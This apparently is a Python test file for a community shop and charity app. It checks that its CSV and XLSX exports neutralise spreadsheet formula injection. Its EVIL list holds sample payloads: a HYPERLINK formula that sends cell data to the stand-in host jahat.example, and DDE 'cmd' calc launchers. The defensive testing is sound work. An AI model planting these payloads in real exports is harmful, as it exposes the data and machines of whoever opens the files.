"""Every CSV/XLSX Kongsi writes quotes text a spreadsheet would run as a formula
(``community/spreadsheet.py``), export by export; numbers stay numbers, so a
negative amount is still a negative number."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from charity import services as charity_services
from community.spreadsheet import FORMULA_STARTS, spreadsheet_cell, spreadsheet_row
from tests.catalog.factories import ProductFactory, VariantFactory
from tests.charity.factories import ProgramFactory, fund_with

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
    "+62 812 cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EXPORT_URL = "/ringkasan/unduh/file/"


def _content(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _csv_cells(response) -> list[str]:
    text = _content(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str) and cell[:1] in FORMULA_STARTS:
            # A negative number written by Kongsi as a number is fine.
            assert cell.lstrip("-").isdigit(), f"unescaped formula cell: {cell!r}"


def test_the_helper_quotes_text_only():
    for value in EVIL:
        assert spreadsheet_cell(value) == "'" + value
    for value in ["Hijab", "a=b", "", "12-3", "'already"]:
        assert spreadsheet_cell(value) == value
    assert spreadsheet_cell(-5000) == -5000
    assert spreadsheet_cell(None) is None
    assert spreadsheet_row(["=1", 2, -3]) == ["'=1", 2, -3]


def test_public_charity_report_csv(client, treasurer, leader):
    fund_with(1_000_000)
    fund_with(-5_000, kind="adjustment")
    program = ProgramFactory(name=EVIL[0])
    proposal = charity_services.disbursement_propose(
        actor=treasurer,
        program=program,
        cash_amount=50_000,
        in_kind_description="",
        in_kind_value=0,
    )
    charity_services.disbursement_approve(disbursement=proposal, actor=leader)
    charity_services.disbursement_pay(disbursement=proposal, actor=leader)
    year = timezone.localdate().year

    response = client.get(f"/amal/laporan/{year}.csv")  # no login

    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + EVIL[0] in cells
    assert EVIL[0] not in cells
    assert "-5000" in cells  # the adjustments total stays a plain number
    assert "'-5000" not in cells
    _assert_no_formula(cells)


def test_catalog_csv_export(client, leader):
    product = ProductFactory(name=EVIL[3], description=EVIL[1])
    VariantFactory(product=product, label=EVIL[2])
    client.force_login(leader)

    response = client.get("/katalog/kelola/ekspor.csv")

    assert response.status_code == 200
    cells = _csv_cells(response)
    for value in EVIL[1:4]:
        assert "'" + value in cells
    _assert_no_formula(cells)


def test_insights_fund_ledger_csv_and_xlsx(client, treasurer):
    fund_with(100_000)
    fund_with(-2_500, kind="adjustment")
    from ledger.fund import fund_post

    fund_post(
        amount=1_000,
        kind="donation",
        reference="donasi:evil",
        idempotency_key="donasi:evil",
        memo=EVIL[0],
    )
    client.force_login(treasurer)

    as_csv = client.get(EXPORT_URL, {"kind": "fund", "format": "csv"})
    cells = _csv_cells(as_csv)
    assert "'" + EVIL[0] in cells
    assert "-2500" in cells
    _assert_no_formula(cells)

    as_xlsx = client.get(EXPORT_URL, {"kind": "fund", "format": "xlsx"})
    workbook = load_workbook(io.BytesIO(_content(as_xlsx)))
    sheet = workbook.worksheets[0]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds, "no cell may be a formula"
    assert "'" + EVIL[0] in values
    assert -2500 in values  # a number cell, not text
    _assert_no_formula(values)


def test_insights_orders_and_statement_lines_exports(client, leader, treasurer):
    from tests.factories import MemberFactory, ShopFactory
    from tests.insights.factories import make_sale
    from tests.settlements.factories import settlement_due

    member = MemberFactory(full_name=EVIL[1])
    shop = ShopFactory(member=member, name=EVIL[0])
    make_sale(
        member=member,
        shop=shop,
        lines=[(VariantFactory(), 1, 30_000)],
        submitted_at=timezone.now(),
    )
    client.force_login(leader)
    orders = client.get(EXPORT_URL, {"kind": "orders", "format": "csv"})
    cells = _csv_cells(orders)
    assert "'" + EVIL[1] in cells and "'" + EVIL[0] in cells
    _assert_no_formula(cells)

    from django.core.files.uploadedfile import SimpleUploadedFile

    from settlements.reconciliation import statement_import

    settlement_due(MemberFactory(), 77_417)
    statement_import(
        file=SimpleUploadedFile(
            "m.csv",
            b'date,description,amount,type\n2026-11-02,"=1+1 TRSF",77417,CR\n'
            b'2026-11-03,"@biaya admin",6500,DB\n',
        ),
        format="generic",
        actor=treasurer,
    )
    client.force_login(treasurer)
    lines = client.get(EXPORT_URL, {"kind": "statement_lines", "format": "xlsx"})
    workbook = load_workbook(io.BytesIO(_content(lines)))
    values = [c.value for row in workbook.worksheets[0].iter_rows() for c in row]
    assert "'=1+1 TRSF" in values and "'@biaya admin" in values
    _assert_no_formula(values)
